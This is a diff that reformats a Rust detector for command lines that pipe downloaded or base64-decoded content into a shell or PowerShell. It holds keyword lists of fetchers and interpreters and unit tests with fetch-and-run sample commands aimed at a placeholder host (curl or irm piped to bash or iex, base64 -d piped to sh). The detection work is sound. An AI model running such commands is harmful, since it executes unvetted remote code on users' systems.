@@ -6,8 +6,21 @@ use super::Order;
 const FETCHERS: &[&str] = &["curl", "wget", "iwr", "irm", "invoke-webrequest", "invoke-restmethod"];
 
 /// Programs that run what they are given.
-const INTERPRETERS: &[&str] =
-    &["sh", "bash", "zsh", "dash", "python", "python3", "node", "perl", "ruby", "iex", "invoke-expression", "pwsh", "powershell"];
+const INTERPRETERS: &[&str] = &[
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "python",
+    "python3",
+    "node",
+    "perl",
+    "ruby",
+    "iex",
+    "invoke-expression",
+    "pwsh",
+    "powershell",
+];
 
 /// What a command line orders that no honest one needs to: running what was fetched or decoded.
 pub fn command_order(command: &str) -> Option<Order> {
@@ -20,8 +33,11 @@ pub fn command_order(command: &str) -> Option<Order> {
         .iter()
         .any(|start| lower.contains(start));
     let runs = piped || substituted || has(&["iex", "invoke-expression"]);
-    let decodes = lower.contains("base64 -d") || lower.contains("base64 --decode") || has(&["frombase64string", "-encodedcommand"])
-        || lower.contains("xxd -r") || lower.contains("openssl enc -d");
+    let decodes = lower.contains("base64 -d")
+        || lower.contains("base64 --decode")
+        || has(&["frombase64string", "-encodedcommand"])
+        || lower.contains("xxd -r")
+        || lower.contains("openssl enc -d");
     if decodes && (runs || has(&["-encodedcommand"])) {
         return Some(Order::RunDecoded);
     }
@@ -29,7 +45,9 @@ pub fn command_order(command: &str) -> Option<Order> {
 }
 
 fn is_interpreter(part: &str) -> bool {
-    let mut words = part.split_whitespace().filter(|word| !matches!(*word, "sudo" | "env" | "-e" | "-s" | "exec") && !word.contains('='));
+    let mut words = part
+        .split_whitespace()
+        .filter(|word| !matches!(*word, "sudo" | "env" | "-e" | "-s" | "exec") && !word.contains('='));
     let name = words.next().unwrap_or_default();
     let name = name.trim_matches(|character: char| !character.is_ascii_alphanumeric());
     INTERPRETERS.contains(&name.rsplit('/').next().unwrap_or(name))
@@ -41,7 +59,11 @@ mod tests {
 
     #[test]
     fn what_is_fetched_or_decoded_into_an_interpreter_is_an_order() {
-        for command in ["curl -fsSL https://x.invalid/i.sh | sudo bash -s", "bash -c \"$(wget -qO- http://x.invalid)\"", "irm https://x.invalid/i.ps1 | iex"] {
+        for command in [
+            "curl -fsSL https://x.invalid/i.sh | sudo bash -s",
+            "bash -c \"$(wget -qO- http://x.invalid)\"",
+            "irm https://x.invalid/i.ps1 | iex",
+        ] {
             assert_eq!(command_order(command), Some(Order::RunFetched), "{command}");
         }
         assert_eq!(command_order("echo ZWNobyBo | base64 -d | sh"), Some(Order::RunDecoded));
@@ -49,7 +71,13 @@ mod tests {
 
     #[test]
     fn fetching_and_running_apart_are_none() {
-        for command in ["curl -O https://x.invalid/data.zip", "cat a | bash-completion", "ls | sh", "base64 -d in > out", "wget x | tar xz"] {
+        for command in [
+            "curl -O https://x.invalid/data.zip",
+            "cat a | bash-completion",
+            "ls | sh",
+            "base64 -d in > out",
+            "wget x | tar xz",
+        ] {
             assert_eq!(command_order(command), None, "{command}");
         }
     }
